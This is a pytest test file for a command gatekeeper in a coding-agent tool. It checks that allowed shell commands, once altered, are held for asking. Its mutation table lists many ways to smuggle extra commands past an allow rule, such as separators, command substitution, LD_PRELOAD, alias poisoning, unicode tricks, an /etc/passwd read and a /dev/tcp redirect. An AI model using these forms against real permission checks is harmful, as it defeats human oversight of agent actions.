"""Remembered rules against the commands that got past other tools, as they are and disguised."""

import re

import pytest

from pocketcoder_tui.core.actions import Outcome
from pocketcoder_tui.gatekeeper.policy import judge
from pocketcoder_tui.gatekeeper.rules import exact_words
from tests.gatekeeper.samples import Row, allow, corpus, mutations, shell

BYPASSES = corpus("rule-bypass")
BENIGN = corpus("rule-benign")

ADDED = {
    "sep": (
        "{0};id", "{0} ;id", "{0}&id", "{0} && id", "{0}||id", "{0}|id", "{0}|&id", "{0};;id",
        "id;{0}"
    ),
    "newline": (
        "{0}\nid", "{0}\r\nid", "{0}\rid", "id\n{0}", "{0}\x0bid", "{0}\x0cid", "{0}\x85id",
        "{0}\u2028id", "{0}\\\nid", "{0} \\\n;id", "\n{0}", "{0}\n\n"
    ),
    "subst": (
        "{0} $(id)", "{0} `id`", '{0} "$(id)"', "{0} <(id)", "{0} >(id)", "{0} ${{x:=id}}",
        "{0} ${{x@P}}", "{0} $((x[$(id)]))", "{0} $[x]", "{0} $'\\x41'", '{0} $"id"', "$({0})",
        "`{0}`", "{0}$(id)", "{0} ${{!x}}", "{0} $x", '{0} "$x"', "{0} $1", "{0} $@"
    ),
    "redir": (
        "{0} >x", "{0}>x", "{0} >>x", "{0} <x", "{0} 2>x", "{0} &>x", "{0} >&x", "{0} >|x",
        "{0} <>x", "{0} 1<>x", "{0} <<E\nid\nE", "{0} <<<x", "{0} > /dev/tcp/h/1", ">x {0}",
        "{0} 2>&1", "{0} >&-", "{0} {{fd}}>x"
    ),
    "env": (
        "X=1 {0}", "PATH=. {0}", "LD_PRELOAD=./x {0}", "BASH_ENV=x {0}", "env {0}", "sudo {0}",
        "exec {0}", "command {0}", "builtin {0}", "eval {0}", "nohup {0}", "timeout 9 {0}",
        "time {0}", "nice {0}", "xargs {0}", "stdbuf -o0 {0}", "setsid {0}", "busybox {0}",
        "ionice {0}", "strace {0}", "X+=1 {0}", "x[0]=1 {0}"
    ),
    "poison": (
        "alias {0}", "unalias {0}", "hash -p x {0}", "trap {0} EXIT", "bind -x {0}",
        "enable -n {0}", "set -x; {0}", "shopt -s extglob\n{0}", "{0}() {{ id; }}",
        "function {0} {{ id; }}", "coproc {0}", "source {0}", ". {0}"
    ),
    "compound": (
        "({0})", "{{ {0}; }}", "! {0}", "if {0}; then id; fi", "while {0}; do id; done",
        "for i in 1; do {0}; done", "[[ -n x ]] && {0}", "case x in *) {0};; esac", "{0} {{a,b}}",
        "{0} #x", "{0}#;id", "until {0}; do id; done", "select x in 1; do {0}; done", "(({0}))"
    ),
    "ident": (
        "./{0}", "/bin/{0}", "/usr/bin/{0}", "../{0}", "{0}x", "x{0}", "{0}-x", "\\{0}", "~/{0}",
        "{0}.sh", "-{0}", "{0}=", "{0}=1", "%{0}", "{0}/", "$'{0}'", '$"{0}"', "{0}\\", "{0}/../x"
    ),
    "unicode": (
        "{0}\u200b", "\u200b{0}", "\ufeff{0}", "{0} \u3164", "{0} \u202eid", "{0}\u2060",
        "{0} \u00a0", "{0}\u0301", "{0} \U000e0041", "{0} \u2215", "{0}\ufe0f", "{0} \uff0dl",
        "\u0406{0}", "{0}\u037e id", "{0} \u2013l"
    ),
    "control": (
        "{0}\x00", "{0}\t", "\t{0}", "{0}\x1b[8m", "{0}\x08", "id #\r{0}", "{0}\x16", "{0}\x03",
        "{0}\x7f", "{0}\x1bc", "{0}\x15id", "{0} \x04", "{0}\x01", "{0}\x9b31m"
    ),
    "args": (
        "{0} -o x", "{0} --exec=id", "{0} -exec id", "{0} --", "{0} -", "{0} .", "{0} /",
        "{0} --output=x", "{0} -x", "{0} ''", '{0} ""', "{0} '' x", "{0} @x", "{0} -c id",
        "{0} -e id", "{0} +x"
    ),
    "path": (
        "{0} ..", "{0} ../x", "{0} /etc/passwd", "{0} *", "{0} ?", "{0} [a]", "{0} ~", "{0} ~root",
        "{0} x/../y", "{0} /proc/self/root", "{0} !(x)", "{0} **/x"
    ),
    "limit": (
        "{0} " + "A" * 70_000, "{0}" + " x" * 20_000, "{0}" + " " * 100_000,
        "{0} '" + "\n" * 5_000 + "'", "{0}" + " && true" * 51, "(" * 5_000 + "{0}"
    ),
    "quote": (
        "{0} 'x", '{0} "x', "{0}'", "'{0}'x", "{0} a'b", "{0} \\x", "{0}''", '{0}""', "{0} 'a' 'b'",
        "''{0}"
    ),
    "history": (
        "{0} !!", "!{0}", "^{0}^id", "{0} !$", "!-1"
    ),
}  # fmt: skip
"""More of each class; ``{0}`` is the remembered command. None of them has its argument list."""


@pytest.mark.parametrize("row", BYPASSES, ids=lambda row: row.id)
def test_a_known_bypass_is_asked_about(row: Row) -> None:
    rule = allow(row.rule)
    rules = [] if rule is None else [rule]
    for command in (row.command, *mutations(row.command)):
        assert judge(shell(command), rules=rules, now=1.0).outcome is None, command


@pytest.mark.parametrize("row", BENIGN, ids=lambda row: row.id)
def test_a_benign_command_runs_by_its_rule(row: Row) -> None:
    rule = allow(row.rule)
    assert rule is not None
    verdict = judge(shell(row.command), rules=[rule], now=1.0)
    assert verdict.outcome is Outcome.ALLOW
    assert verdict.argv[-len(row.command.split()) :] == tuple(row.command.split())


@pytest.mark.parametrize("kind", ADDED)
@pytest.mark.parametrize("row", BENIGN, ids=lambda row: row.id)
def test_a_command_with_something_added_is_asked_about(row: Row, kind: str) -> None:
    rule = allow(row.rule)
    assert rule is not None
    for form in ADDED[kind]:
        command = form.format(row.rule)
        for text in (command, *mutations(command)):
            if exact_words(text) != exact_words(row.rule):
                assert judge(shell(text), rules=[rule], now=1.0).outcome is None, text
            else:
                assert re.sub("[ '\"]", "", text) == row.rule.replace(" ", ""), text


def test_the_corpora_are_whole() -> None:
    assert (len(BYPASSES), len(BENIGN)) == (92, 10)
    assert {row.kind for row in BYPASSES} >= {"sep", "subst", "poison", "unicode", "limit", "git"}
